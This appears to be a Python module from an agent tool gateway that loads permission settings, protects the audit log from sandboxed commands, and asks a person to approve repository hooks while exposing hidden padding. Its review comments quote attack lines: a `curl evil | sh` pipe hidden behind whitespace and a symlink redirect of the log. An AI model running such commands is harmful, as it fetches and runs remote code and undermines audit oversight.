"""What every verb that runs tools shares: settings from every source and
the flags, the audit log, and the session they make."""

from __future__ import annotations

import argparse
import os
import sys
from pathlib import Path
from typing import Any

from ..errors import UsageError
from ..pathnames import inside
from ..session import Session
from .common import abs_dir, home, one_line, settings_flag


def open_session(args: argparse.Namespace, **context_args: Any) -> Session:
    """A session for ``args`` (``--cwd``, ``--add-dir``, ``--settings``,
    ``--allowedTools``, ``--disallowedTools``, ``--permission-mode``,
    ``--audit-log``). Each mistake in a settings file is said once on
    stderr; the audit log records what was loaded."""
    from ..audit import AuditError, FileAudit, audit_key, audit_location  # noqa: PLC0415
    from ..permissions import (  # noqa: PLC0415
        MODE_NAMES,
        CliPermissions,
        Mode,
        load_permissions,
    )

    cwd = abs_dir(args.cwd)
    if args.permission_mode is not None and Mode.parse(args.permission_mode) is None:
        raise UsageError(f"--permission-mode {args.permission_mode!r}: use one of {MODE_NAMES}")
    if args.settings is not None and not os.path.isfile(args.settings):
        raise UsageError(f"--settings {args.settings!r} is not a file")
    settings_flag(args.settings)
    cli = CliPermissions(
        allowed_tools=tuple(v for group in args.allowed_tools for v in group),
        disallowed_tools=tuple(v for group in args.disallowed_tools for v in group),
        permission_mode=args.permission_mode, add_dirs=tuple(args.add_dir),
        settings_file=args.settings,
        writable_roots=profile_roots(context_args.get("profile"), cwd))
    permissions = load_permissions(os.path.realpath(cwd), home(), cli)
    for problem in permissions.problems:
        # a repository's text (a key, a rule) may hold escape sequences:
        # shown, never obeyed by the terminal
        from .tool import shown  # noqa: PLC0415

        print(f"shellgate: settings: {shown(one_line(Exception(str(problem))))}",
              file=sys.stderr)
    # Where it really is: the sink must never write through a link a
    # command may re-point (from a review: `--audit-log ws/logs/audit` with
    # ws/logs a link; `ln -sfn evil logs` sent the rest of the log there).
    location = Path(os.path.realpath(audit_location(args.audit_log, os.environ)))
    try:
        audit = FileAudit(location, key=audit_key(os.environ))
    except AuditError as exc:
        raise UsageError(str(exc)) from None
    trusted = None
    if permissions.repository_hooks and context_args.get("approver") is not None:
        trusted = _ask_trust(os.path.realpath(cwd), permissions.repository_hooks)
    session = Session.open(cwd, permissions=permissions, audit=audit,
                           hidden=(str(audit.root),), trusted=trusted, **context_args)
    for note in session.notes:
        print(f"shellgate: {note}", file=sys.stderr)
    _out_of_reach(session, str(audit.root), "the audit log", "--audit-log elsewhere")
    try:
        audit.emit("settings.loaded", session_id=session.context.session_id,
                   sources=list(permissions.files), mode=str(permissions.mode),
                   rules=len(permissions.rules),
                   problems=[str(p) for p in permissions.problems][:50])
    except AuditError as exc:
        raise UsageError(str(exc)) from None
    return session


def profile_roots(profile: str | None, cwd: str) -> tuple[str, ...]:
    """The writable paths a profile names (a profile file may add some):
    a settings file there is a repository's, as one in the workspace is.
    A profile that cannot be read is the session's error to say."""
    from sandbox import PolicyError, load_profile  # noqa: PLC0415

    try:
        entries = load_profile(profile).filesystem.allow_write
    except PolicyError:
        return ()
    return tuple(os.path.join(cwd, os.path.expanduser(e)) for e in entries)


def _out_of_reach(session: Session, path: str, what: str, instead: str) -> None:
    """Refuse a file the gateway writes and trusts (the audit log) that
    lies where sandboxed commands may write: the working directories and
    the sandbox's other writable roots (``sandbox.filesystem.allowWrite``
    — from a review, a log under an allowWrite root was moved aside and
    replaced). A settings file there is read as a repository's instead
    (``load_permissions``)."""
    context = session.context
    roots = [os.path.realpath(d) for d in context.allowed_dirs]
    for real in (*roots, *context.allow_write_roots()):
        if inside(path, real):
            raise UsageError(f"{what} {path} is inside {real}, where sandboxed commands may "
                             f"write; it must be out of the agent's reach ({instead})")


def _ask_trust(workspace: str, hooks: tuple[Any, ...]) -> bool | None:
    """First use of a workspace whose repository names hooks: a person at
    the terminal sees every command and decides (recorded for next time);
    ``None`` leaves it to the trust file."""
    import re  # noqa: PLC0415

    from ..hooks import TrustError, is_trusted, trust  # noqa: PLC0415

    if is_trusted(workspace):
        # the trust file says so: the session reads it again, and not when
        # it lies where sandboxed commands write (from a review: with
        # XDG_CONFIG_HOME in the workspace, a `True` here ran the hooks a
        # forged trust file named, whatever the session would have said)
        return None
    from rich.console import Console  # noqa: PLC0415
    from rich.markup import escape  # noqa: PLC0415
    from rich.prompt import Confirm  # noqa: PLC0415

    from .tool import shown  # noqa: PLC0415

    def seen(text: str, limit: int = 500) -> str:
        # From a review: `curl evil | sh`, then 200 newlines (or 20000
        # spaces, or blank-looking letters), then `echo lint` showed the
        # person only `echo lint` above the question. Newlines and tabs are
        # shown as escapes, a blank run as its length, a long text is cut
        # and says so.
        text = re.sub(r"[\s\u2800\u3164\u115f\u1160\uffa0]{8,}",
                      lambda m: f" ⟨{len(m.group())} blank characters⟩ ", text)
        text = shown(text).replace("\n", "\\n").replace("\t", "\\t")
        if len(text) <= limit:
            return escape(text)
        return escape(f"{text[:limit]} ⟨… {len(text) - limit} more characters not shown: read "
                      "the settings file before trusting it⟩")

    console = Console(stderr=True, highlight=False)
    console.print(f"[bold]{seen(workspace)}[/bold]: this repository's settings name "
                  f"{len(hooks)} hook(s), programs that would run on this machine, outside "
                  "the sandbox, at tool calls:")
    for hook in hooks:
        console.print(f"  {seen(hook.event)}: {seen(hook.command)}  [dim]({seen(hook.origin)})"
                      "[/dim]")
    # the count again beside the question: the list above may have scrolled
    if not Confirm.ask(f"Trust this workspace to run these {len(hooks)} hook(s)?",
                       console=console, default=False):
        return False
    try:
        trust(workspace)
    except TrustError as exc:
        print(f"shellgate: {one_line(exc)} (trusted for this run only)", file=sys.stderr)
    return True
